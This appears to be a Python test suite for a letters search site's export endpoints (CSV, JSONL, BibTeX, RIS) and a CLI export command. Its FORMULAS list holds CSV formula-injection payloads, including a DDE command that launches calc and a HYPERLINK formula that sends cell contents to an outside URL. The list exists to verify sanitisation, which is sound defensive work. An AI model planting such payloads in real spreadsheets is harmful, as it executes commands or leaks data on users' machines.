"""Exports of all results: whole, safe to open, and read again by what reads their formats."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from web.cli import main
from web.exporting.spreadsheet import MOST, harmless

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    " \n=1+1",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "|calc",
    '=HYPERLINK("http://example.org?"&A1,"复工")',
]


def rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def found(client: FlaskClient, query: str) -> list[str]:
    answer = client.get(f"/api/v1/search?per_page=100&{query}").get_json()
    return [result["id"] for result in answer["results"]]


@pytest.mark.parametrize("query", ["q=", "q=epidemic+疫情", "q=复工&sort=date&lang=zh", "q=zzzyyy"])
def test_a_file_has_all_results_in_their_order(client: FlaskClient, query: str) -> None:
    table = client.get(f"/export.csv?{query}")
    lines = client.get(f"/export.jsonl?{query}").get_data(as_text=True).splitlines()

    assert [row["id"] for row in rows(table.data)] == found(client, query)
    assert [json.loads(line)["id"] for line in lines] == found(client, query)
    assert table.headers["Letters-Total"] == str(len(lines))


def test_a_spreadsheet_opens_it_right(client: FlaskClient) -> None:
    response = client.get("/export.csv?q=复工复产")
    first = rows(response.data)[0]

    assert response.headers["Content-Type"].startswith("text/csv; charset=utf-8")
    assert "attachment" in response.headers["Content-Disposition"]
    assert "%E5%A4%8D%E5%B7%A5%E5%A4%8D%E4%BA%A7.csv" in response.headers["Content-Disposition"]
    assert first["initiatives"].startswith("1. ")
    assert first["url"].startswith("http://localhost/letters/")
    assert response.data.count(b"\r\n") == len(rows(response.data)) + 1


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_is_calculated(text: str) -> None:
    assert harmless(text).startswith("'")


@given(st.text())
def test_a_cell_is_whole_begins_like_no_formula_and_fits(text: str) -> None:
    cell = harmless(text)

    assert cell.strip()[:1] not in tuple("=+-@")
    assert len(cell) <= MOST
    assert "\r" not in cell
    assert "\x00" not in cell


def test_a_cell_that_is_too_long_for_a_spreadsheet_says_so() -> None:
    assert harmless("工" * 40_000) == "工" * (MOST - 1) + "…"


def test_a_line_of_json_is_the_whole_letter(client: FlaskClient) -> None:
    lines = client.get("/export.jsonl?q=").get_data(as_text=True).splitlines()

    for line in map(json.loads, lines):
        letter = client.get(line["url"].replace("http://localhost", "/api/v1")).get_json()
        assert {**letter, "pairs": None} == {
            **{name: value for name, value in line.items() if name != "translation_of"},
            "pairs": None,
        }


def test_each_letter_is_cited_once(client: FlaskClient) -> None:
    bibtex = client.get("/export.bib?q=").get_data(as_text=True)
    ris = client.get("/export.ris?q=").get_data(as_text=True)
    keys = re.findall(r"^@misc\{(.+),$", bibtex, re.MULTILINE)
    records = re.findall(
        r"^TY  - ELEC\r\n(?:[A-Z][A-Z0-9]  - .*\r\n)*?ER  - \r\n", ris, re.MULTILINE
    )

    assert len(set(keys)) == len(found(client, "q="))
    assert len(records) == len(found(client, "q="))
    one = client.get("/citations/2020-02-03-siu-sds-proposal.bib").get_data(as_text=True)
    assert one in bibtex


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "bib", "ris"])
def test_a_parameter_that_cannot_be_used_is_no_wider_export(
    client: FlaskClient, suffix: str
) -> None:
    response = client.get(f"/export.{suffix}?q=复工&date_from=yesterday&ui=zh")

    assert response.status_code == 422
    assert [one["name"] for one in response.get_json()["parameters"]] == ["date_from"]


def test_there_are_no_other_formats(client: FlaskClient) -> None:
    assert client.get("/export.xlsx?q=").status_code == 404


def test_the_command_writes_the_same(client: FlaskClient, index_dir: Path, tmp_path: Path) -> None:
    place = tmp_path / "letters.csv"
    options = ["--index-dir", str(index_dir), "--output", str(place)]

    said = CliRunner().invoke(main, ["export", "epidemic 疫情", *options])

    assert said.exit_code == 0
    assert place.read_bytes() == client.get("/export.csv?q=epidemic+疫情").data
    assert re.fullmatch(r"Exported (\d+) of \1 letters\.\n", said.stderr)
